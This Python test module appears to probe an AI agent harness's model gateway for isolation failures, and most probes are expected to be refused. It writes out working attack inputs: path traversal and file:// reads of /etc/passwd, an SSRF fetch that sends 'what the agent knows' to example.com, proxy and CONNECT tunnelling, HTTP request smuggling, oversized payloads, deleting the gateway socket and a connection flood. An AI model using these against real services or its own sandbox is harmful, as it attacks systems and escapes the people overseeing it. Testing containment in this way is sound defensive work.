"""What can be done at the one way out. Attempts want what is not this run's; `the_model` and what is called `after_...`
are the way as it is meant, which has to go on working."""

import http.client
import json
import os
import resource
import socket
import time

from attempts import FACTS, Refused, attempt

HOST, PORT = "127.0.0.1", 11434
SOCKET = "/run/harness/gateway.sock"
QUESTION = json.dumps({"model": os.environ.get("HARNESS_MODEL"), "messages": [{"role": "user", "content": "hello"}]})
KEY = os.environ.get("OPENAI_API_KEY", "")


def ask(path, key=KEY, method="POST", body=QUESTION, headers=None):
    """The status and the beginning of the body of an answer."""
    connection = http.client.HTTPConnection(HOST, PORT, timeout=15)
    given = {"Authorization": f"Bearer {key}", "Content-Type": "application/json", **(headers or {})}
    connection.request(method, path, body, given)
    response = connection.getresponse()
    return response.status, response.read(2000).decode(errors="replace")


def got(status_and_body):
    status, body = status_and_body
    if status != 200:
        raise Refused(f"{status} {body[:120]}")
    return body


def raw(*pieces, patience_s=2.0):
    """What is said at the port of the loopback when anything is sent there."""
    with socket.create_connection((HOST, PORT), timeout=patience_s) as connection:
        try:
            for piece in pieces:
                connection.sendall(piece)
            answer = connection.recv(2000)
        except TimeoutError:
            raise Refused("no answer") from None
    if not answer.startswith(b"HTTP/1.1 200"):
        raise Refused(answer[:60].decode(errors="replace") or "hung up on")
    return answer.decode(errors="replace")


@attempt
def the_model():
    return got(ask("/v1/chat/completions"))


@attempt
def the_model_with_another_runs_key():
    return got(ask("/v1/chat/completions", key=FACTS["other_run_key"]))


@attempt
def the_model_with_no_key():
    return got(ask("/v1/chat/completions", key=""))


@attempt
def what_other_models_there_are():
    """One, under the name that this run knows it by."""
    names = [model["id"] for model in json.loads(got(ask("/v1/models", method="GET", body=None)))["data"]]
    if names == [os.environ["HARNESS_MODEL"]]:
        raise Refused(f"{len(names)}, this run's own")
    return str(names)


@attempt
def fetching_a_model():
    return got(ask("/api/pull"))


@attempt
def removing_a_model():
    return got(ask("/api/delete", method="DELETE"))


@attempt
def embeddings_which_nobody_counts():
    return got(ask("/v1/embeddings"))


@attempt
def a_path_that_climbs():
    return got(ask("/v1/models/../../../../etc/passwd", method="GET", body=None))


@attempt
def a_path_of_another_run():
    return got(ask("/d/gateway.sock", method="GET", body=None))


def looking_at(url):
    parts = [{"type": "text", "text": "what is this?"}, {"type": "image_url", "image_url": {"url": url}}]
    return got(ask("/v1/chat/completions", body=json.dumps({"messages": [{"role": "user", "content": parts}]})))


@attempt
def having_the_engine_fetch_from_the_host():
    return looking_at(f"http://127.0.0.1:{FACTS['host_loopback_port']}/")


@attempt
def having_the_engine_fetch_from_the_internet():
    return looking_at("https://example.com/?what=the+agent+knows")


@attempt
def having_the_engine_read_a_file():
    return looking_at("file:///etc/passwd")


@attempt
def the_host_through_the_gateway_as_a_proxy():
    there = f"127.0.0.1:{FACTS['host_loopback_port']}"
    return raw(f"GET http://{there}/ HTTP/1.1\r\nHost: {there}\r\nAuthorization: Bearer {KEY}\r\n\r\n".encode())


@attempt
def a_tunnel_through_the_gateway():
    there = f"127.0.0.1:{FACTS['host_loopback_port']}"
    return raw(f"CONNECT {there} HTTP/1.1\r\nHost: {there}\r\n\r\n".encode())


@attempt
def a_body_that_is_too_large():
    return got(ask("/v1/chat/completions", body=b" " * (17 << 20)))


@attempt
def a_header_that_is_too_large():
    return raw(b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * (1 << 20) + b"\r\n\r\n")


@attempt
def a_request_that_is_none():
    return raw(bytes(range(256)) * 100)


@attempt
def a_request_within_a_request():
    """Two lengths that say different things: one who believes the other would see a second request."""
    inner = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
    lengths = b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(inner)
    return raw(b"POST /api/pull HTTP/1.1\r\nHost: x\r\n" + lengths + b"\r\n0\r\n\r\n" + inner)


@attempt
def a_chunk_without_end():
    return raw(
        b"POST /api/chat HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n", b"x" * 4096
    )


@attempt
def replacing_the_socket():
    os.unlink(SOCKET)
    return "removed"


@attempt
def a_forged_mark_of_the_work_directory():
    """The header in which the forwarder puts what has changed, from the agent: it is taken for nothing."""
    return "passed on: " + got(ask("/v1/chat/completions", headers={"X-Harness-Workdir": "../../etc/passwd"}))[:40]


@attempt
def ten_thousand_connections():
    """In rounds of as many as a process may have open, each left open until the round is over."""
    soft, _ = resource.getrlimit(resource.RLIMIT_NOFILE)
    made = refused = 0
    while made + refused < 10_000:
        crowd = []
        for _ in range(min(soft - 50, 10_000 - made - refused)):
            connection = socket.socket()
            connection.setblocking(False)
            crowd.append(connection)
            if connection.connect_ex((HOST, PORT)) in (0, 115):
                made += 1
            else:
                refused += 1
        time.sleep(0.2)
        for connection in crowd:
            connection.close()
    raise Refused(f"{made} made, {refused} refused")


@attempt
def after_ten_thousand_connections():
    """Within the time that the forwarder waits when it has no more files."""
    deadline = time.monotonic() + 10
    while True:
        try:
            return got(ask("/v1/chat/completions"))
        except (OSError, http.client.HTTPException):
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)
